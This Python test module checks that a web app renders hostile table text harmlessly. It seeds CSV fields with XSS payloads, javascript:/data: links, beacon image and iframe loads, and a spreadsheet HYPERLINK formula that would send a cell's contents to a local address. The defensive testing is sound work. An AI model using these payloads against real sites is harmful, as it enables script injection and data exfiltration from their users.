"""Tables whose every free text is an attack: shown as text on every page, and nothing runs, loads or leads away.

The data are published in a store of their own and served as in production. Whatever is asked of the beacon's port, a
second one on this machine, would be an attack that got through.
"""

import csv
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, expect
from playwright.sync_api import Page as BrowserPage

from eventwindow.sources.snapshot import Snapshot
from eventwindow.sources.store import Store
from eventwindow.view import Page, Tab
from tests.browser.test_every_page import FACES, settled
from tests.harness import Server, running_server
from tests.unit.test_served import add

BEACON = "127.0.0.1:9"
# Stands in a bare address, unseen, so that no browser makes it a link.
WORD_JOINER = "\u2060"
SET = "window.__pwned=1"
ATTACKS = [
    f"<img src=x onerror={SET}>",
    f"<script>{SET}</script>",
    f"<svg onload={SET}>",
    f"[press](javascript:{SET})",
    f"[data](data:text/html,<script>{SET}</script>)",
    f"![p](http://{BEACON}/a.png)",
    f"<iframe src=http://{BEACON}/></iframe>",
    f"<a href=http://{BEACON}/>click</a>",
    f"$\\href{{javascript:{SET}}}{{x}}$",
    f'"><b style=background:url(http://{BEACON}/b)>bold</b>',
    f"http://{BEACON}/bare **bold** :red[spoof]",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x") %{x}',
]
FREE = {
    "events.csv": ["title", "group_title", "target", "summary", "effective_note", "time_note", "source_note",
                   "anticipated_note"],
    "reported_moves.csv": ["publisher", "note"],
    "listings.csv": ["note"],
    "regulators.csv": ["name", "note"],
    "issuers.csv": ["short_name", "name"],
}  # fmt: skip


def poison(place: Path) -> None:
    """Put one attack after another into every free text that is filled."""
    for table, columns in FREE.items():
        with (place / table).open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        for number, row in enumerate(rows):
            for column in columns:
                if row[column]:
                    row[column] = f"{ATTACKS[number % len(ATTACKS)]} {column} {number}"
        with (place / table).open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, rows[0].keys(), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)


@pytest.fixture(scope="module")
def server(snapshot: Snapshot, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    store = Store(tmp_path_factory.mktemp("hostile") / "store")
    add(store, snapshot, "hostile", poison)
    with running_server("asgi.py", {"EVENTWINDOW_STORE": str(store.root)}) as running:
        yield running


@pytest.fixture
def visit(browser: Browser, server: Server) -> Iterator["Visit"]:
    visiting = Visit(browser.new_context(viewport={"width": 1440, "height": 900}), server)
    yield visiting
    visiting.context.close()
    assert visiting.problems == []


class Visit:
    """Pages of one browser, and what must not happen on them."""

    def __init__(self, context: BrowserContext, server: Server) -> None:
        self.context, self.server = context, server
        self.problems: list[str] = []

    def __call__(self, place: str) -> BrowserPage:
        page = self.context.new_page()
        page.on("dialog", lambda dialog: self.problems.append(f"dialog {dialog.message}"))
        page.on("pageerror", lambda error: self.problems.append(f"error {error}"))
        page.on("request", lambda request: self.problems.extend(elsewhere(request.url, self.server)))
        page.on("console", lambda said: self.problems.extend([said.text] if is_violation(said.text) else []))
        page.goto(f"{self.server.address}/{place}")
        expect(page.locator("h1").first).to_be_visible()
        return settled(page)


def elsewhere(url: str, server: Server) -> list[str]:
    parts = urlsplit(url)
    return [] if parts.scheme in {"data", "blob"} or parts.port == server.port else [f"request to {url}"]


def is_violation(text: str) -> bool:
    """Whether the browser says that it refused something on the page's behalf: nothing should even try."""
    return "Content Security Policy" in text and "start page" not in text


def harmless(page: BrowserPage) -> None:
    assert page.evaluate("window.__pwned") is None
    expect(page.get_by_test_id("stException")).to_have_count(0)
    links = page.locator("a[href]").evaluate_all("nodes => nodes.map(node => node.href.baseVal ?? node.href)")
    assert [link for link in links if link.startswith(("javascript:", "data:", f"http://{BEACON}"))] == []
    made = "main img[src='x'], iframe[src*='127.0.0.1:9'], [onerror], [onload], img[src*='127.0.0.1:9'], .katex"
    if not page.url.partition("?")[0].endswith(Page.METHOD):
        expect(page.locator(made)).to_have_count(0)


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_an_announcement_of_hostile_text_is_shown_to_the_letter(visit: Visit, snapshot: Snapshot, number: int) -> None:
    """Each attack as title, target, summary, notes and publishers of one announcement, on every face of its page."""
    acts = [act for act in snapshot.announcement_of if snapshot.announcement_of[act] == act]
    order = {row["event_id"]: place for place, row in enumerate(committed_rows())}
    event = next(act for act in acts if order[act] % len(ATTACKS) == number)
    page = visit(f"?event={event}")
    title = " ".join(page.locator("h1").inner_text().replace(WORD_JOINER, "").split())
    assert " ".join(ATTACKS[number].split()) in title
    for tab in Tab:
        page.get_by_role("tab", name=tab.capitalize(), exact=True).click()
        expect(page.get_by_role("tab", name=tab.capitalize(), exact=True)).to_have_attribute("aria-selected", "true")
        settled(page)
        harmless(page)


def committed_rows() -> list[dict[str, str]]:
    path = Path(__file__).resolve().parents[2] / "data/events.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("place", FACES)
def test_hostile_tables_do_nothing_on_any_face_of_any_page(visit: Visit, place: str) -> None:
    harmless(visit(place))


def test_a_short_link_to_hostile_text_repeats_it_as_text(visit: Visit) -> None:
    event = committed_rows()[0]["event_id"]
    page = visit.context.new_page()
    page.route(re.compile(r"/\?event="), lambda route: route.abort())
    answer = page.request.get(f"{visit.server.address}/e/{event}")
    assert "&lt;img src=x onerror=" in answer.text()
    assert "<img" not in answer.text()
